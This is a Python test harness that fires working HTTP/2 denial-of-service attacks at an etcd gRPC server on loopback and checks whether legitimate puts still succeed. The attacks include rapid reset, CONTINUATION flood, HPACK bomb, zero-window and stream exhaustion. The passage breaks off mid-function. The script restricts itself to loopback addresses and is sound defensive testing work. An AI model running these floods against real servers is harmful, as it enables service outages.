#!/usr/bin/env python3
"""Runs hostile HTTP/2 clients against one etcd v3 gRPC port on loopback, one attack at a time,
while a well-behaved client keeps putting, and says for each attack whether the server held.

Usage:
    python3 Scripts/attack-front.py --target HOST:PORT [--seconds 60] [--attacks all|name,name]
                                    [--pid PID] [--put-endpoints HOST:PORT,...]

Each attack runs for --seconds over ONE attacking TCP connection (opened again whenever the server
ends it; the ends are counted with their GOAWAY codes). Meanwhile a checker thread makes unary
KV/Put calls back to back on connections of its own, spread over --put-endpoints (default: the
target), each with a 1 s budget: a put that fails or takes longer counts as failed. With --pid the
server's resident size (VmRSS) is sampled every second.

An attack passes when the server still lives (with --pid), its resident size grew by less than
64 MB (peak during the attack minus before it, with --pid), and no checker put failed. The last
line is `attacks: N passed, M failed`; the exit status is 1 when any failed (2 for bad arguments
or a target that answers no put to begin with).

Attacks (--attacks takes a comma-separated list of these names, or all):
    baseline             no attack: the checker alone, what its own puts grow the server by
    ping-flood           PING frames as fast as possible, never reading the socket
    settings-flood       SETTINGS frames (empty, or with one setting), never reading
    unending-bodies      many Put streams, each a gRPC message announcing 1 MiB+ never completed,
                         DATA sent for as long as the server grants window
    zero-window          SETTINGS_INITIAL_WINDOW_SIZE=0, then Range calls for a 100 kB value on
                         new streams again and again, never reading, never granting window
    rapid-reset          HEADERS + DATA (a put) + RST_STREAM(CANCEL) on new streams
    continuation-flood   HEADERS without END_HEADERS, then endless CONTINUATION frames
    hpack-bomb           one 4 KB header put in the HPACK dynamic table, then header blocks that
                         name it by index a thousand times each
    rst-flood            RST_STREAM for streams never opened or already closed
    empty-data-flood     empty DATA frames without END_STREAM on one open stream
    window-update-flood  WINDOW_UPDATE (increment 1) on stream 0 and on an open stream
    stream-exhaustion    as many Put streams opened (HEADERS only) and never finished as possible

To keep the machine running the script sets itself bounds a real attacker would not: it holds at
most 1000 unfinished 1 MiB bodies (unending-bodies) and 10,000 streams (zero-window,
stream-exhaustion) on one connection; each is far past what a server should hold.

Reading the memory figures: attacks run one after another against the same server, and a server
that keeps the memory it grew in one attack (a garbage-collected heap, say) shows less growth in
the next; the checker's own puts grow a server a little too (etcd 3.4: about 2 MB a second at
first). For a clean figure, run one attack at a time against a fresh server.

Only loopback targets are accepted (127.0.0.0/8, ::1): nothing here may be aimed anywhere else.
Frames are written as raw bytes with socket and struct; no third-party package is needed. The
script always stops by itself: each attack at its time limit, the whole run at
attacks x (seconds + 10) at the latest.

Example, against a throwaway etcd:
    etcd --data-dir /tmp/atk-etcd --listen-client-urls http://127.0.0.1:23790 \\
         --advertise-client-urls http://127.0.0.1:23790 --listen-peer-urls http://127.0.0.1:23800 \\
         --initial-advertise-peer-urls http://127.0.0.1:23800 \\
         --initial-cluster default=http://127.0.0.1:23800 --name default &
    python3 Scripts/attack-front.py --target 127.0.0.1:23790 --seconds 5 --pid $(pgrep -f atk-etcd)
"""
import argparse
import ipaddress
import os
import select
import socket
import struct
import sys
import threading
import time
from collections import Counter

# ---------------------------------------------------------------------------------------------
# HTTP/2 wire format (RFC 9113)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = 0x1  # DATA, HEADERS
ACK = 0x1  # SETTINGS, PING
END_HEADERS = 0x4  # HEADERS, CONTINUATION
HEADER_TABLE_SIZE, ENABLE_PUSH, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 1, 2, 3, 4, 5
CANCEL = 0x8
ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
               "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
DEFAULT_WINDOW = 65535
MAX_STREAM_ID = (1 << 31) - 1


def error_name(code):
    return ERROR_NAMES[code] if code < len(ERROR_NAMES) else f"0x{code:x}"


def frame(ftype, flags, stream, payload=b""):
    """One frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + struct.pack(">I", stream) + payload


def settings_frame(settings):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in settings.items()))


def window_update(stream, increment):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


class FrameReader:
    """Cuts a byte stream into frames. Keeps an offset rather than deleting from the front, so a
    few megabytes of tiny frames (a flood's answers) are parsed in linear time."""

    def __init__(self):
        self.buf = bytearray()
        self.pos = 0

    def feed(self, data):
        if self.pos:
            del self.buf[:self.pos]
            self.pos = 0
        self.buf += data

    def frames(self):
        buf = self.buf
        while len(buf) - self.pos >= 9:
            p = self.pos
            length = int.from_bytes(buf[p:p + 3], "big")
            if len(buf) - p < 9 + length:
                break
            stream = int.from_bytes(buf[p + 5:p + 9], "big") & 0x7FFFFFFF
            self.pos = p + 9 + length
            yield buf[p + 3], buf[p + 4], stream, bytes(buf[p + 9:p + 9 + length])


# ---------------------------------------------------------------------------------------------
# HPACK (RFC 7541), only what a client needs to send: no Huffman, no indexing but the bomb's.

def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(s):
    return hpack_int(len(s), 7) + s  # H bit 0: not Huffman


def literal(name, value, indexed=False):
    """A literal header with a new name: 0x40 adds it to the dynamic table, 0x00 does not."""
    return (b"\x40" if indexed else b"\x00") + hpack_string(name) + hpack_string(value)


def request_block(path, authority):
    # 0x83 = static entry 3 (:method POST), 0x86 = static entry 6 (:scheme http).
    return (b"\x83\x86" + literal(b":path", path) + literal(b":authority", authority)
            + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


# ---------------------------------------------------------------------------------------------
# gRPC and etcd's protobuf messages

PUT_PATH = b"/etcdserverpb.KV/Put"
RANGE_PATH = b"/etcdserverpb.KV/Range"


def varint(n):
    out = bytearray()
    while n >= 0x80:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def pb_bytes(field, value):
    return varint(field << 3 | 2) + varint(len(value)) + value


def put_request(key, value):
    return pb_bytes(1, key) + pb_bytes(2, value)  # PutRequest: key = 1, value = 2


def range_request(key):
    return pb_bytes(1, key)  # RangeRequest: key = 1


def grpc_message(body):
    """A length-prefixed message: not compressed (0), 4-byte big-endian length, the bytes."""
    return b"\x00" + struct.pack(">I", len(body)) + body


# ---------------------------------------------------------------------------------------------
# Addresses: loopback only

def parse_endpoint(text):
    """HOST:PORT -> (family, host, port, authority). Refuses anything but a loopback address: this
    workplace forbids traffic to any other, and a name could resolve elsewhere."""
    host, sep, port = text.rpartition(":")
    if not sep or not port.isdigit() or not 0 < int(port) < 65536:
        raise SystemExit(f"attack-front: '{text}' is not HOST:PORT")
    host = host[1:-1] if host.startswith("[") and host.endswith("]") else host
    if host == "localhost":
        host = "127.0.0.1"
    try:
        ip = ipaddress.ip_address(host)
    except ValueError:
        raise SystemExit(f"attack-front: '{text}': give a loopback IP address (127.x.x.x or ::1), not a name")
    if not ip.is_loopback:
        raise SystemExit(f"attack-front: refusing {text}: only loopback addresses (127.0.0.0/8, ::1) may be "
                         "targeted here; traffic to any other address is forbidden")
    family = socket.AF_INET6 if ip.version == 6 else socket.AF_INET
    authority = f"[{host}]:{port}" if ip.version == 6 else f"{host}:{port}"
    return family, host, int(port), authority.encode()


def open_socket(endpoint, timeout):
    family, host, port, _ = endpoint
    sock = socket.socket(family, socket.SOCK_STREAM)
    try:
        sock.settimeout(timeout)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.connect((host, port))
    except OSError:
        sock.close()
        raise
    return sock


# ---------------------------------------------------------------------------------------------
# The well-behaved client: unary calls, one at a time, on one connection

class CallFailed(Exception):
    pass


class Unprocessed(CallFailed):
    """The server says it never started the call (a GOAWAY below its stream, or REFUSED_STREAM):
    gRPC clients retry those on a new connection, and so does the checker, once."""


class UnaryClient:
    """A small, correct HTTP/2 gRPC client: preface and SETTINGS, acks the server's SETTINGS and
    PINGs, gives back window for what it reads, respects the server's windows when it sends, and
    makes one call per stream on increasing odd stream ids."""

    def __init__(self, endpoint):
        self.endpoint = endpoint
        self.sock = None

    def close(self):
        if self.sock is not None:
            self.sock.close()
        self.sock = None

    def _connect(self, deadline):
        self.sock = open_socket(self.endpoint, max(0.01, deadline - time.monotonic()))
        self.reader = FrameReader()
        self.next_stream = 1
        self.conn_window = DEFAULT_WINDOW
        self.initial_window = DEFAULT_WINDOW
        self.max_frame = 16384
        self.stream_windows = {}
        self.goaway_last = None
        # A larger connection window than 64 KiB so the server never waits on us.
        self.sock.sendall(PREFACE + settings_frame({ENABLE_PUSH: 0}) + window_update(0, 1 << 20))

    def _next_frame(self, deadline):
        while True:
            for f in self.reader.frames():
                return f
            left = deadline - time.monotonic()
            if left <= 0:
                raise CallFailed("timeout")
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                raise CallFailed("timeout")
            if not data:
                raise CallFailed("connection closed")
            self.reader.feed(data)

    def _handle(self, ftype, flags, stream, payload):
        """Answers what the connection asks of us (acks, window) and notes windows and GOAWAY."""
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                ident, value = struct.unpack_from(">HI", payload, i)
                if ident == INITIAL_WINDOW_SIZE:
                    for s in self.stream_windows:
                        self.stream_windows[s] += value - self.initial_window
                    self.initial_window = value
                elif ident == MAX_FRAME_SIZE:
                    self.max_frame = value
            self.sock.sendall(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.sock.sendall(frame(PING, ACK, 0, payload))
        elif ftype == WINDOW_UPDATE and len(payload) == 4:
            increment = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
            if stream == 0:
                self.conn_window += increment
            elif stream in self.stream_windows:
                self.stream_windows[stream] += increment
        elif ftype == DATA and payload:
            # Give back what we read at once: a unary answer is small.
            updates = window_update(0, len(payload))
            if not flags & END_STREAM:
                updates += window_update(stream, len(payload))
            self.sock.sendall(updates)
        elif ftype == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway_last = (last & 0x7FFFFFFF, error_name(code))

    def _send_body(self, stream, body, deadline):
        """DATA frames within the server's windows, reading (window updates) when they are shut."""
        sent = 0
        while True:
            n = min(len(body) - sent, self.max_frame, self.conn_window, self.stream_windows[stream])
            if n > 0 or len(body) == sent:
                last = sent + n == len(body)
                self.sock.sendall(frame(DATA, END_STREAM if last else 0, stream, body[sent:sent + n]))
                self.conn_window -= n
                self.stream_windows[stream] -= n
                sent += n
                if last:
                    return
            else:
                ftype, _, s, payload = f = self._next_frame(deadline)
                self._handle(*f)
                self._check_goaway(stream)
                if ftype == RST_STREAM and s == stream:
                    self._reset(payload)

    def _check_goaway(self, stream):
        if self.goaway_last is not None and self.goaway_last[0] < stream:
            raise Unprocessed(f"GOAWAY {self.goaway_last[1]}")

    @staticmethod
    def _reset(payload):
        code = error_name(struct.unpack(">I", payload[:4])[0])
        raise (Unprocessed if code == "REFUSED_STREAM" else CallFailed)(f"RST_STREAM {code}")

    def call(self, path, body, deadline):
        """One unary call; returns the answer's DATA payloads. Raises CallFailed. A call the
        server never started is tried once more on a new connection, within the same deadline."""
        try:
            return self._call(path, body, deadline)
        except Unprocessed:
            return self._call(path, body, deadline)

    def _call(self, path, body, deadline):
        """The answer is a success when it ends (END_STREAM) after a DATA frame holding a
        length-prefixed message: a gRPC error is a trailers-only answer, with no DATA. (The
        server's header blocks may be Huffman-coded or indexed, so grpc-status is not decoded.)"""
        if self.sock is not None and self.goaway_last is not None:
            self.close()  # the server is going away: a real client moves to a new connection
        try:
            if self.sock is None:
                self._connect(deadline)
            stream = self.next_stream
            self.next_stream += 2
            self.stream_windows[stream] = self.initial_window
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            self.sock.sendall(frame(HEADERS, END_HEADERS, stream, request_block(path, self.endpoint[3])))
            self._send_body(stream, grpc_message(body), deadline)
            answer = []
            while True:
                ftype, flags, s, payload = f = self._next_frame(deadline)
                self._handle(*f)
                self._check_goaway(stream)
                if s != stream:
                    continue
                if ftype == RST_STREAM:
                    self._reset(payload)
                if ftype == DATA:
                    answer.append(payload)
                if flags & END_STREAM and ftype in (DATA, HEADERS):
                    break
            del self.stream_windows[stream]
            whole = b"".join(answer)
            if len(whole) < 5:
                raise CallFailed("error status (trailers only)")
            return whole
        except CallFailed:
            self.close()  # the stream's state is unknown now: start clean next time
            raise
        except OSError as error:
            self.close()
            raise CallFailed("timeout" if isinstance(error, socket.timeout) else f"socket: {error.strerror or error}")


class Checker(threading.Thread):
    """Puts back to back over the endpoints in turn, each with a 1 s budget, until stopped."""

    KEY = b"attack-front/checker"

    def __init__(self, endpoints):
        super().__init__(daemon=True)
        self.clients = [UnaryClient(e) for e in endpoints]
        self.stop = threading.Event()
        self.ok = 0
        self.failed = 0
        self.slowest = 0.0
        self.reasons = Counter()

    def run(self):
        n = 0
        while not self.stop.is_set():
            client = self.clients[n % len(self.clients)]
            n += 1
            start = time.monotonic()
            try:
                client.call(PUT_PATH, put_request(self.KEY, b"v%d" % n), start + 1.0)
                elapsed = time.monotonic() - start
                if elapsed > 1.0:
                    raise CallFailed("slower than 1 s")
                self.ok += 1
                self.slowest = max(self.slowest, elapsed)
            except CallFailed as failure:
                self.failed += 1
                self.reasons[str(failure)] += 1
                # A server that refuses at once would make this loop spin: pause a little.
                self.stop.wait(0.05)
        for client in self.clients:
            client.close()


def unary_put(endpoint, key, value, seconds):
    """One put on a fresh connection, for setup: True when it succeeded."""
    client = UnaryClient(endpoint)
    try:
        client.call(PUT_PATH, put_request(key, value), time.monotonic() + seconds)
        return True, ""
    except CallFailed as failure:
        return False, str(failure)
    finally:
        client.close()


# ---------------------------------------------------------------------------------------------
# The server's memory

def rss_kb(pid):
    """VmRSS of the process in kB, or None when it is gone (or a zombie)."""
    try:
        with open(f"/proc/{pid}/status") as f:
            fields = dict(line.split(":", 1) for line in f if ":" in line)
    except OSError:
        return None
    if fields.get("State", "").strip().startswith("Z"):
        return None
    return int(fields.get("VmRSS", "0 kB").split()[0])


class RssSampler(threading.Thread):
    """Samples the server's resident size every second while an attack runs: the peak is the
    growth that matters, since memory freed after the attack does not undo an OOM during it."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.stop = threading.Event()
        self.peak = 0
        self.died = False

    def run(self):
        while True:
            kb = rss_kb(self.pid)
            if kb is None:
                self.died = True
                return
            self.peak = max(self.peak, kb)
            if self.stop.wait(1.0):
                return


# ---------------------------------------------------------------------------------------------
# The attacking side: one connection whose writes never block

class AttackConn:
    """One attacking TCP connection. Writes are non-blocking: bytes the kernel will not take wait
    in `out`, and nothing new is written until they are gone (the server applying backpressure).
    A connection that `reads` drains and parses what the server sends (acking its SETTINGS,
    answering its PINGs, taking its window updates); one that does not only peeks, so the
    server's answers stay unread and pile up on its side, as the attack means them to."""

    def __init__(self, sock, reads):
        sock.setblocking(False)
        self.sock = sock
        self.reads = reads
        self.out = bytearray()
        self.reader = FrameReader()
        self.ended = None  # why the socket ended (server closed or reset it)
        self.goaway = None  # (code name, debug text) of the server's GOAWAY
        self.settings_seen = False
        self.server = {HEADER_TABLE_SIZE: 4096, MAX_CONCURRENT_STREAMS: None,
                       INITIAL_WINDOW_SIZE: DEFAULT_WINDOW, MAX_FRAME_SIZE: 16384}
        self.conn_window = DEFAULT_WINDOW  # what we may still send on the connection
        self.stream_windows = {}  # streams an attack tracks -> what we may still send on each
        self.closed = set()  # tracked streams the server has ended
        self.resets = Counter()  # RST_STREAM codes the server sent
        self.streams_opened = 0
        self.streams_ended = 0  # streams the server ended (END_STREAM or RST_STREAM)
        self.next_stream = 1
        self.unacked = 0  # DATA bytes read and not yet given back
        self.last_peek = time.monotonic()
        self.state = {}  # the attack's own bookkeeping for this connection

    # Writing

    def queue(self, data):
        self.out += data  # whole frames only, so appending always keeps frames intact

    def flush(self):
        """Writes what waits; True when all of it is gone and the connection lives."""
        while self.out and self.ended is None:
            try:
                n = self.sock.send(self.out)
            except (BlockingIOError, InterruptedError):
                return False
            except OSError as error:
                self._end(f"{error.strerror or error}")
                return False
            del self.out[:n]
        return not self.out and self.ended is None

    def wait(self, seconds):
        """Sleeps until the socket can take more (or has something to read), at most `seconds`."""
        if self.ended is not None:
            return
        try:
            select.select([self.sock] if self.reads else [], [self.sock] if self.out else [], [], seconds)
        except (OSError, ValueError):
            time.sleep(seconds)

    def new_stream(self, track=False):
        stream = self.next_stream
        self.next_stream += 2
        self.streams_opened += 1
        if track:
            self.stream_windows[stream] = self.server[INITIAL_WINDOW_SIZE]
        return stream

    def out_of_ids(self):
        return self.next_stream > MAX_STREAM_ID - 1000

    # Reading

    def pump(self, limit=4 << 20):
        """Reads and handles what has arrived (at most `limit` bytes a call, so a chatty server
        cannot starve the attack), then gives back the connection window for DATA read."""
        got = 0
        while got < limit and self.ended is None:
            try:
                data = self.sock.recv(1 << 18)
            except (BlockingIOError, InterruptedError):
                break
            except OSError as error:
                self._end(f"{error.strerror or error}")
                break
            if not data:
                self._end("EOF")
                break
            got += len(data)
            self._feed(data)
        if self.unacked and self.ended is None:
            self.queue(window_update(0, self.unacked))
            self.unacked = 0

    def _feed(self, data):
        self.reader.feed(data)
        for f in self.reader.frames():
            self._handle(*f)

    def _handle(self, ftype, flags, stream, payload):
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                ident, value = struct.unpack_from(">HI", payload, i)
                if ident == INITIAL_WINDOW_SIZE:
                    for s in self.stream_windows:
                        self.stream_windows[s] += value - self.server[INITIAL_WINDOW_SIZE]
                self.server[ident] = value
            self.settings_seen = True
            self.queue(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.queue(frame(PING, ACK, 0, payload))
        elif ftype == WINDOW_UPDATE and len(payload) == 4:
            increment = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
            if stream == 0:
                self.conn_window += increment
            elif stream in self.stream_windows:
                self.stream_windows[stream] += increment
        elif ftype == GOAWAY and len(payload) >= 8:
            self._goaway(payload)
        elif ftype == RST_STREAM and len(payload) >= 4:
            self.resets[error_name(struct.unpack(">I", payload[:4])[0])] += 1
            self._stream_ended(stream)
        elif ftype in (DATA, HEADERS):
            if ftype == DATA:
                self.unacked += len(payload)
            if flags & END_STREAM:
                self._stream_ended(stream)

    def _goaway(self, payload):
        code = struct.unpack(">I", payload[4:8])[0]
        self.goaway = (error_name(code), payload[8:108].decode("utf-8", "replace"))

    def _stream_ended(self, stream):
        self.streams_ended += 1
        if self.stream_windows.pop(stream, None) is not None:
            self.closed.add(stream)

    def await_settings(self, seconds):
        """Waits (at most `seconds`) for the server's SETTINGS, so limits and windows are known."""
        deadline = time.monotonic() + seconds
        while not self.settings_seen and self.ended is None and self.goaway is None:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self.wait(min(left, 0.05))
            self.pump()
            self.flush()

    def peek_goaway(self):
        """For a connection that never reads: looks at what the server sent without taking it
        from the socket (so the attack still never reads), for a GOAWAY."""
        self.last_peek = time.monotonic()
        try:
            data = self.sock.recv(8 << 20, socket.MSG_PEEK)
        except (BlockingIOError, InterruptedError):
            return
        except OSError as error:
            self._end(f"{error.strerror or error}")
            return
        if not data:
            self._end("EOF")
            return
        self._scan_goaway(data)

    def _scan_goaway(self, data):
        """Looks through the server's bytes from the start of the connection for a GOAWAY."""
        reader = FrameReader()
        reader.feed(data)
        for ftype, _, _, payload in reader.frames():
            if ftype == GOAWAY and len(payload) >= 8:
                self._goaway(payload)

    def _end(self, reason):
        """The server closed or reset the connection: read what it left (its GOAWAY is there,
        before the close), then close our side."""
        if self.ended is not None:
            return
        self.ended = reason
        rest = bytearray()
        deadline = time.monotonic() + 1.0
        while len(rest) < (64 << 20) and time.monotonic() < deadline:
            try:
                data = self.sock.recv(1 << 20)
            except (BlockingIOError, InterruptedError):
                break
            except OSError:
                break
            if not data:
                break
            rest += data
        if self.reads:
            self._feed(bytes(rest))
        else:
            self._scan_goaway(bytes(rest))  # never read: the bytes start at the first frame
        self.close()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


class Attacker:
    """Keeps one attacking connection for an attack's time, opening a new one whenever the server
    ends the current one (closes it or sends GOAWAY), and counts what happened."""

    def __init__(self, endpoint, seconds, reads, settings=None):
        self.endpoint = endpoint
        self.authority = endpoint[3]
        self.started = time.monotonic()
        self.deadline = self.started + seconds
        self.reads = reads
        self.settings = settings or {}
        self.current = None
        self.opened = 0
        self.ends = Counter()  # how the server ended connections: "GOAWAY CODE" or how it closed
        self.goaway_texts = {}  # code -> first debug text seen
        self.still_open_after_goaway = 0
        self.connect_failures = Counter()
        self.frames_sent = 0
        self.throttled = 0.0
        self.resets = Counter()
        self.streams_opened = 0
        self.streams_ended = 0

    def running(self):
        return time.monotonic() < self.deadline

    def left(self):
        return max(0.0, self.deadline - time.monotonic())

    def connection(self):
        """The live connection, or a new one; None when none could be opened just now."""
        c = self.current
        if c is not None and c.ended is None and c.goaway is None and not c.out_of_ids():
            return c
        if c is not None:
            self._retire(c)
            self.current = None
        try:
            sock = open_socket(self.endpoint, max(0.05, min(1.0, self.left())))
        except OSError as error:
            self.connect_failures[error.strerror or str(error)] += 1
            time.sleep(min(0.1, self.left()))
            return None
        c = AttackConn(sock, self.reads)
        self.opened += 1
        c.queue(PREFACE + settings_frame(self.settings))
        if not self.reads:
            # Ack the server's SETTINGS without reading them: a server sends them first thing.
            c.queue(frame(SETTINGS, ACK, 0))
        c.flush()
        if self.reads:
            c.await_settings(min(1.0, self.left()))
        self.current = c
        return c

    def _retire(self, c):
        """Counts how the server ended a connection, then lets it go."""
        if c.goaway is not None:
            label = f"GOAWAY {c.goaway[0]}"
            self.goaway_texts.setdefault(c.goaway[0], c.goaway[1])
        elif c.ended is not None:
            label = f"closed without GOAWAY ({c.ended})"
        else:
            label = None  # we moved on ourselves (stream ids used up)
        if label:
            self.ends[label] += 1
        self.resets.update(c.resets)
        self.streams_opened += c.streams_opened
        self.streams_ended += c.streams_ended
        c.close()

    def ready(self, c):
        """True when the connection has written all it was given and can take more. Otherwise
        waits a little (the server is applying backpressure, or it has gone) and says False."""
        if c.reads:
            c.pump()
        elif time.monotonic() - c.last_peek >= 1.0:
            c.peek_goaway()
        if c.ended is not None or c.goaway is not None:
            return False
        if c.flush():
            return True
        start = time.monotonic()
        c.wait(min(0.05, self.left()))
        self.throttled += time.monotonic() - start
        return False

    def idle(self, c, seconds=0.05):
        """Waits with nothing to send (no window, or enough streams held), reading meanwhile."""
        start = time.monotonic()
        c.wait(min(seconds, self.left()))
        self.throttled += time.monotonic() - start

    def send(self, c, data, frames=1):
        if c.ended is not None:
            return  # the server has ended it: nothing more goes out, and nothing is counted
        c.queue(data)
        c.flush()
        self.frames_sent += frames

    def finish(self):
        """Time is up: one last look for a GOAWAY on the live connection, then close it."""
        c = self.current
        if c is None:
            return
        if c.ended is None:
            if c.reads:
                c.pump()
            else:
                c.peek_goaway()
        if c.goaway is not None and c.ended is None:
            self.still_open_after_goaway += 1
        self._retire(c)
        self.current = None


# ---------------------------------------------------------------------------------------------
# The attacks. Each runs until its Attacker's time is up.

BODY_STREAMS_MAX = 1000  # unending-bodies: 1000 x 1 MiB asked of the server is plenty
HELD_STREAMS_MAX = 10000  # zero-window, stream-exhaustion: streams held at once per connection
BATCH = 512  # small frames per write: one syscall for many frames


def ping_flood(att):
    batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(BATCH))
    while att.running():
        c = att.connection()
        if c is not None and att.ready(c):
            att.send(c, batch, BATCH)


def settings_flood(att):
    # Half empty, half with one setting (the default window: valid, yet work to apply).
    batch = b"".join(settings_frame({INITIAL_WINDOW_SIZE: DEFAULT_WINDOW} if i % 2 else {})
                     for i in range(BATCH))
    while att.running():
        c = att.connection()
        if c is not None and att.ready(c):
            att.send(c, batch, BATCH)


def unending_bodies(att):
    announced = (1 << 20) + (64 << 10)  # over 1 MiB, under etcd's 1.5 MiB request limit
    message = grpc_message(bytes(announced))[:-1]  # the prefix and all but the last byte
    block = request_block(PUT_PATH, att.authority)
    while att.running():
        c = att.connection()
        if c is None or not att.ready(c):
            continue
        sent = c.state.setdefault("sent", {})  # stream -> bytes of its message sent
        for stream in c.closed:
            sent.pop(stream, None)  # the server reset or answered it: no longer held
        c.closed.clear()
        limit = min(BODY_STREAMS_MAX, c.server[MAX_CONCURRENT_STREAMS] or BODY_STREAMS_MAX)
        out, frames = [], 0
        for _ in range(min(64, limit - len(sent))):  # open more streams, a few at a time
            stream = c.new_stream(track=True)
            sent[stream] = 0
            out.append(frame(HEADERS, END_HEADERS, stream, block))
            frames += 1
        budget = 1 << 20  # DATA bytes per write
        for stream, done in sent.items():
            n = min(len(message) - done, c.stream_windows.get(stream, 0), c.conn_window,
                    c.server[MAX_FRAME_SIZE], budget)
            if n < 5 and done == 0 or n <= 0:
                continue  # the first DATA must hold the whole 5-byte prefix
            out.append(frame(DATA, 0, stream, message[done:done + n]))
            frames += 1
            sent[stream] = done + n
            c.stream_windows[stream] -= n
            c.conn_window -= n
            budget -= n
            if budget <= 0:
                break
        if out:
            att.send(c, b"".join(out), frames)
        else:
            att.idle(c)  # every window is shut and every stream open: wait for a WINDOW_UPDATE


def seed_zero_window(endpoint):
    ok, why = unary_put(endpoint, ZERO_WINDOW_KEY, b"z" * 100_000, 3.0)
    if not ok:
        print(f"zero-window: could not put the 100 kB value first ({why}); attacking anyway", flush=True)


ZERO_WINDOW_KEY = b"attack-front/zero-window"


def zero_window(att):
    # The SETTINGS_INITIAL_WINDOW_SIZE=0 is in the preface (see ATTACKS): every answer's DATA
    # must wait in the server for a WINDOW_UPDATE that never comes.
    call = request_block(RANGE_PATH, att.authority)
    body = grpc_message(range_request(ZERO_WINDOW_KEY))
    while att.running():
        c = att.connection()
        if c is None or not att.ready(c):
            continue
        if c.streams_opened >= HELD_STREAMS_MAX:
            att.idle(c)  # enough answers held for one connection: keep them held
            continue
        out = []
        for _ in range(min(32, HELD_STREAMS_MAX - c.streams_opened)):
            stream = c.new_stream()
            out.append(frame(HEADERS, END_HEADERS, stream, call) + frame(DATA, END_STREAM, stream, body))
        att.send(c, b"".join(out), 2 * len(out))


def rapid_reset(att):
    call = request_block(PUT_PATH, att.authority)
    body = grpc_message(put_request(b"attack-front/rapid-reset", b"r" * 16))
    cancel = struct.pack(">I", CANCEL)
    while att.running():
        c = att.connection()
        if c is None or not att.ready(c):
            continue
        out = []
        for _ in range(64):
            stream = c.new_stream()
            out.append(frame(HEADERS, END_HEADERS, stream, call) + frame(DATA, END_STREAM, stream, body)
                       + frame(RST_STREAM, 0, stream, cancel))
        att.send(c, b"".join(out), 3 * 64)


def continuation_flood(att):
    call = request_block(PUT_PATH, att.authority)
    batch = b"".join(frame(CONTINUATION, 0, 1, literal(b"x-c", b"1")) for _ in range(BATCH))
    while att.running():
        c = att.connection()
        if c is None or not att.ready(c):
            continue
        if "stream" not in c.state:
            c.state["stream"] = c.new_stream()
            att.send(c, frame(HEADERS, 0, c.state["stream"], call))  # no END_HEADERS, ever
            continue
        # Stream 1 is the first of every connection: the batch is built for it.
        att.send(c, batch, BATCH)


def hpack_bomb(att):
    # Each block carries a whole small put (a DATA after it), so the server answers and ends the
    # stream: what it pays for is decoding the block. (etcd 3.4 never answers a bodiless call.)
    call = request_block(PUT_PATH, att.authority)
    body = grpc_message(put_request(b"attack-front/hpack-bomb", b"x"))
    bomb = call + b"\xbe" * 1000  # 0xBE = index 62, the newest dynamic entry

    def put(stream, block):
        return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)

    while att.running():
        c = att.connection()
        if c is None or not att.ready(c):
            continue
        if "primed" not in c.state:
            # 0x40: literal with incremental indexing, so the header enters the dynamic table.
            # An entry costs name + value + 32 bytes of the table (RFC 7541 4.1): fill it.
            room = c.server[HEADER_TABLE_SIZE] - 32 - len(b"x-bomb")
            value = b"b" * max(1, min(4000, room))
            att.send(c, put(c.new_stream(), call + literal(b"x-bomb", value, indexed=True)), 2)
            c.state["primed"] = True
            continue
        # Each block names the 4 KB header a thousand times: 4 MB decoded from 1 KB sent.
        att.send(c, b"".join(put(c.new_stream(), bomb) for _ in range(16)), 32)


def rst_flood(att):
    # One put opens stream 201, which implicitly closes the never-opened 1..199 (RFC 9113 5.1.1);
    # once the server has answered it, RST_STREAM on any of 1..201 names a closed stream.
    call = request_block(PUT_PATH, att.authority)
    body = grpc_message(put_request(b"attack-front/rst-flood", b"x"))
    cancel = struct.pack(">I", CANCEL)
    batch = b"".join(frame(RST_STREAM, 0, 1 + 2 * (i % 101), cancel) for i in range(BATCH))
    while att.running():
        c = att.connection()
        if c is None or not att.ready(c):
            continue
        if "opened" not in c.state:
            c.next_stream = 201
            stream = c.new_stream(track=True)
            att.send(c, frame(HEADERS, END_HEADERS, stream, call) + frame(DATA, END_STREAM, stream, body), 2)
            c.state["opened"] = time.monotonic()
            continue
        if 201 not in c.closed and time.monotonic() - c.state["opened"] < 1.0:
